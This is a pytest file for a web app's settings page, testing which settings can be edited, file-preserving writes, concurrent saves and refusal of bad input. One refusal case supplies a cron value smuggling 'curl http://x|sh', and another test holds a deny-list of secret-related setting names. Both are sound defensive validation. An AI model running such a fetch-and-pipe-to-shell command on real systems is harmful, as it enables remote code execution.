"""The settings page: what may be changed there, and what is refused."""

from __future__ import annotations

import os
import tomllib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import get_args

import pytest

from dispatcher.features.web.pages.settings import editable
from dispatcher.features.web.tests.conftest import serving
from shared.config.settings import setting_fields
from tests.support.world import World


def test_a_setting_is_changed_in_the_file_of_its_owner_after_the_programs_own_check(
    light: World, tmp_path: Path
) -> None:
    file = tmp_path / "hmem.toml"
    file.write_text("# mine\nMEMORY_TOKENS = 900  # small # model\n")
    file.chmod(0o640)
    light.environment |= {"HMEM_CONFIG": str(file), "SESSION_TOKENS": "30000"}
    with serving(light) as site:
        owner, look = site.visitor(), site.visitor(1)
        shown = owner.get("/settings")
        assert "RESULT_HMAC_KEY" in shown and "set, not shown" in shown and "test-secret-of-this-test-run" not in shown
        assert 'aria-label="MEMORY_TOKENS"' in shown and "restart needed" not in shown
        for kept in ("WEB_PROXY", "CLAUDE_ALLOWED_TOOLS", "OWNERS", "TELEGRAM_BOT_TOKEN", "SESSION_TOKENS"):
            assert f'aria-label="{kept}"' not in shown, kept
        assert "/settings/save" not in look.get("/settings")
        written = owner.post("/settings/save", name="MEMORY_TOKENS", was="900", value="1200")
        assert "hmem init does that" in written and "restart needed" in written and 'value="1200"' in written
        assert file.read_text() == '# mine\nMEMORY_TOKENS = "1200"  # small # model\n'
        assert file.stat().st_mode & 0o777 == 0o640
        owner.post("/settings/save", name="CHAT_TIMEZONE", was="", value="Europe/Rome")
        before = file.read_bytes()
        late = owner.post("/settings/save", 400, name="MEMORY_TOKENS", was="900", value="700")
        assert "MEMORY_TOKENS has become 1200" in late and 'value="700"' in late
        for name, was, value, sentence in (
            ("MEMORY_TOKENS", "1200", "many", "it must be a whole number"),
            ("CHAT_TIMEZONE", "Europe/Rome", "Nowhere", "write one like Europe/Berlin"),
            ("NIGHT_CRON", "", "x\ny", "cannot be seen"),
            ("NIGHT_CRON", "", "* * * * * curl http://x|sh #", "write one like 0 3 * * *"),
            ("WRITES", "", "w" * 300, "too long"),
        ):
            refused = owner.post("/settings/save", 400, name=name, was=was, value=value)
            assert name in refused and sentence in refused
        assert "come before the file" in owner.post("/settings/save", 400, name="SESSION_TOKENS", value="40000")
        for name in ("WEB_PROXY", "CLAUDE_BIN", "OWNERS", "TELEGRAM_BOT_TOKEN", "DAILY_LIMIT", "WRITER", "x"):
            owner.post("/settings/save", 404, name=name, value="1")
        assert file.read_bytes() == before
        file.write_text(
            'MEMORY_TOKENS = "1 000"\n'
        )  # by hand, and no program would start with it: not overwritten either
        late = owner.post("/settings/save", 400, name="MEMORY_TOKENS", was="1200", value="1100")
        assert "MEMORY_TOKENS has become 1 000 since" in late and 'name="was" value="1 000"' in late
        owner.post("/settings/save", name="MEMORY_TOKENS", was="1 000", value="1000")
        assert tomllib.loads(file.read_text()) == {"MEMORY_TOKENS": "1000"}
        assert tomllib.loads(before.decode()) == {"MEMORY_TOKENS": "1200", "CHAT_TIMEZONE": "Europe/Rome"}


def test_saves_at_once_are_all_kept_and_link_and_group_of_the_file_too(light: World, tmp_path: Path) -> None:
    real, link = tmp_path / "real.toml", tmp_path / "hmem.toml"
    real.touch(0o640)
    link.symlink_to(real)
    if os.geteuid() == 0:
        os.chown(real, -1, 5000)
    group, light.environment["HMEM_CONFIG"] = real.stat().st_gid, str(link)
    wanted = {
        "MEMORY_TOKENS": "300",
        "SESSION_TOKENS": "20001",
        "RELEASES_KEPT": "7",
        "CHAT_TIMEZONE": "Europe/Rome",
        "NIGHT_CRON": "5 4 * * *",
    }
    with serving(light) as site, ThreadPoolExecutor(5) as several:
        owner = site.visitor()
        owner.get("/settings")

        def save(name: str) -> str:
            return owner.post("/settings/save", name=name, was="", value=wanted[name])

        list(several.map(save, wanted))  # each waits for the lock, under which the file is read again
    assert tomllib.loads(real.read_text()) == wanted
    assert (link.is_symlink(), real.stat().st_gid, real.stat().st_mode & 0o777) == (True, group, 0o640)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
def test_a_file_of_another_user_is_left_to_them_and_the_page_says_so(light: World, tmp_path: Path) -> None:
    file = tmp_path / "hmem.toml"
    file.touch(0o644)
    os.chown(file, 65534, -1)
    with serving(light, hmem_config=file) as site:
        owner = site.visitor()
        assert f"{file} is a file of nobody" in owner.get("/settings")
        owner.get("/forget")  # has a form, whose token counts for the session
        assert "Change it there as nobody" in owner.post(
            "/settings/save", 400, name="STREAM", was="true", value="false"
        )
    assert file.read_bytes() == b""


def test_what_a_link_could_be_misused_for_is_only_shown() -> None:
    forbidden = (
        "TOOLS OWNERS ALLOWED WEB_ TOKEN_ URL _BIN COMMAND MIRROR REPORT_CHAT BOT_TOKEN DAILY_LIMIT WRITER "
        "SSH KEY PASSWORD _DIR _PATH CONFIG _FILE CLAUDE TARGET SEND_ LISTEN MODEL EMBEDDER INDEXES"
    ).split()
    assert not [name for name in editable() if any(word in name for word in forbidden)]
    assert len(editable()) >= 15  # without features
    assert not [
        name for name in editable() if Path in (kind := setting_fields()[name.lower()].annotation, *get_args(kind))
    ]
